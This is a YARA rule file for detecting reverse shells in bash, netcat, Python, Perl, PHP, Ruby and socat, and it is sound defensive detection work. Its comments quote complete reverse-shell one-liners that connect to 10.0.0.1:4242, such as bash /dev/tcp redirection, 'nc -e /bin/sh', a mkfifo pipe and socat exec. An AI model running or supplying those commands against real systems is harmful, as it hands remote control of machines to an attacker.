/* Reverse shells: a shell whose input and output are a network
 * connection to somebody else's host. The rules look for the one-liners'
 * shape (the redirections, the dup2 calls, the exec of a shell), never for
 * a single word: bash itself carries "/dev/tcp", Perl's library carries
 * socket and open calls, and neither may fire. */

rule reverse_shell_dev_tcp
{
    meta:
        description = "Reverse shell through bash's /dev/tcp redirection"
        family = "reverse-shell"
        severity = "HIGH"
    strings:
        /* bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 */
        $interactive = /sh\s+-i\s*[0-9]*[<>]&?\s*\/dev\/(tcp|udp)\/[a-zA-Z0-9.\-:]{1,100}\/[0-9]{1,5}/
        /* sh &>/dev/tcp/10.0.0.1/4242 <&1, … >/dev/tcp/h/p 0>&1 */
        $both = /\/dev\/(tcp|udp)\/[a-zA-Z0-9.\-:]{1,100}\/[0-9]{1,5}\s*(0>&1|<&1)/
        /* exec 5<>/dev/tcp/10.0.0.1/4242, then a shell or a read loop on
           the descriptor (a health check opens one too, and only talks) */
        $exec_fd = /exec\s+[0-9]{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[a-zA-Z0-9.\-:]{1,100}\/[0-9]{1,5}/
        $fd_shell = /sh\s+(-i\s+)?<&\s*[0-9]{1,3}\s*>&\s*[0-9]{1,3}\s*2>&\s*[0-9]{1,3}/
        $fd_loop = /while\s+read\s+(-r\s+)?[a-z_]{1,20}\s*;\s*do\s+\$[a-z_]{1,20}\s+2>&\s*[0-9]{1,3}\s*>&\s*[0-9]{1,3}/
    condition:
        $interactive or $both or ($exec_fd and ($fd_shell or $fd_loop))
}

rule reverse_shell_netcat
{
    meta:
        description = "Reverse shell through netcat running a shell"
        family = "reverse-shell"
        severity = "HIGH"
    strings:
        /* nc -e /bin/sh 10.0.0.1 4242; ncat 10.0.0.1 4242 -e /bin/bash */
        $exec = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s[^\n|;&\/]{0,100}(-e|-c|--exec|--sh-exec)\s*["']?(\/usr)?\/bin\/(ba|da|z|k)?sh\b/
        /* rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f */
        $fifo = /\/bin\/(ba|da|z)?sh\s+-i\s+2>&1\s*\|\s*(nc|ncat|netcat)\s+[a-zA-Z0-9.\-:]{1,100}\s+[0-9]{1,5}/
        /* mknod backpipe p; nc host port 0<backpipe | /bin/bash 1>backpipe */
        $pipe = /\b(nc|ncat|netcat)\s+[a-zA-Z0-9.\-:]{1,100}\s+[0-9]{1,5}\s+0<\s*[^\s|]{1,100}\s*\|\s*\/bin\/(ba|da|z)?sh/
    condition:
        any of them
}

rule reverse_shell_python
{
    meta:
        description = "Reverse shell in Python (socket, dup2, shell)"
        family = "reverse-shell"
        severity = "HIGH"
    strings:
        $connect = /\.connect\(\(\s*["'][a-zA-Z0-9.\-:]{1,100}["']\s*,\s*[0-9]{1,5}\s*\)\)/
        $dup2 = /os\.dup2\(\s*[a-zA-Z_][a-zA-Z0-9_]{0,30}\.fileno\(\)\s*,\s*[0-2]\s*\)/
        $shell = /(subprocess\.(call|Popen|run)|pty\.spawn|os\.system|os\.exec[lv]p?e?)\(\s*\[?\s*["'](\/usr)?\/bin\/(ba|da|z)?sh/
    condition:
        $connect and $dup2 and $shell
}

rule reverse_shell_perl
{
    meta:
        description = "Reverse shell in Perl (socket, standard handles, shell)"
        family = "reverse-shell"
        severity = "HIGH"
    strings:
        $socket = /socket\(\s*[A-Z_a-z$]{1,30}\s*,\s*PF_INET\s*,\s*SOCK_STREAM/
        $io_socket = "IO::Socket::INET"
        /* open(STDIN,">&S"); open(STDOUT,">&S") */
        $dup_stdin = /open\(\s*STDIN\s*,\s*["']>&\s*[A-Za-z_$]{1,30}["']\s*\)/
        $dup_stdout = /open\(\s*STDOUT\s*,\s*["']>&\s*[A-Za-z_$]{1,30}["']\s*\)/
        /* STDIN->fdopen($c,r); $~->fdopen($c,w) */
        $fdopen = /STDIN->fdopen\(\s*\$[A-Za-z_]{1,30}\s*,\s*r\s*\)/
        $shell = /(exec|system)\s*\(?\s*["'](\/usr)?\/bin\/(ba|da|z)?sh/
        $loop = /system\s*\$_\s+while\s*<>/
    condition:
        ($socket and $dup_stdin and $dup_stdout and $shell) or
        ($io_socket and $fdopen and ($shell or $loop))
}

rule reverse_shell_php
{
    meta:
        description = "Reverse shell in PHP (fsockopen and a shell on its descriptor)"
        family = "reverse-shell"
        severity = "HIGH"
    strings:
        $fsock = /fsockopen\(\s*["'][a-zA-Z0-9.\-:]{1,100}["']\s*,\s*[0-9]{1,5}\s*\)/
        /* exec("/bin/sh -i <&3 >&3 2>&3") */
        $fd_shell = /(\/usr)?\/bin\/(ba|da|z)?sh\s+-i\s*<&\s*[0-9]{1,3}\s*>&\s*[0-9]{1,3}\s*2>&\s*[0-9]{1,3}/
        /* proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes) */
        $proc = /proc_open\(\s*["'](\/usr)?\/bin\/(ba|da|z)?sh[^"']{0,10}["']\s*,\s*array\(\s*0\s*=>\s*\$[A-Za-z_]/
    condition:
        $fsock and ($fd_shell or $proc)
}

rule reverse_shell_ruby
{
    meta:
        description = "Reverse shell in Ruby (TCPSocket and a shell on its descriptor)"
        family = "reverse-shell"
        severity = "HIGH"
    strings:
        $socket = /TCPSocket\.(open|new)\(\s*["'][a-zA-Z0-9.\-:]{1,100}["']\s*,\s*[0-9]{1,5}\s*\)/
        $fmt = /(\/usr)?\/bin\/(ba|da|z)?sh\s+-i\s*<&%d\s*>&%d\s*2>&%d/
        $spawn = /(exec|spawn|system)\(?\s*["'](\/usr)?\/bin\/(ba|da|z)?sh["'][^\n\[\/]{0,60}\[\s*:in\s*,\s*:out\s*,\s*:err\s*\]\s*=>/
    condition:
        $socket and ($fmt or $spawn)
}

rule reverse_shell_socat
{
    meta:
        description = "Reverse shell through socat (a TCP connection to an exec'd shell)"
        family = "reverse-shell"
        severity = "HIGH"
    strings:
        /* socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242
           (options, then the two addresses, each one word) */
        $exec_tcp = /socat(\s+-[a-z0-9,]{1,10}){0,4}\s+["']?exec:["']?(\/usr)?(\/bin\/)?(ba|da|z)?sh\b(\s+-[a-z]{1,4})?[^\s]{0,60}\s+["']?(tcp|tcp4|tcp6|openssl|ssl)(-connect)?:[a-z0-9.\-\[\]:]{1,100}:[0-9]{1,5}/ nocase
        /* socat tcp:10.0.0.1:4242 exec:/bin/sh */
        $tcp_exec = /socat(\s+-[a-z0-9,]{1,10}){0,4}\s+["']?(tcp|tcp4|tcp6|openssl|ssl)(-connect)?:[a-z0-9.\-\[\]:]{1,100}:[0-9]{1,5}[^\s]{0,60}\s+["']?exec:["']?(\/usr)?(\/bin\/)?(ba|da|z)?sh\b/ nocase
    condition:
        any of them
}
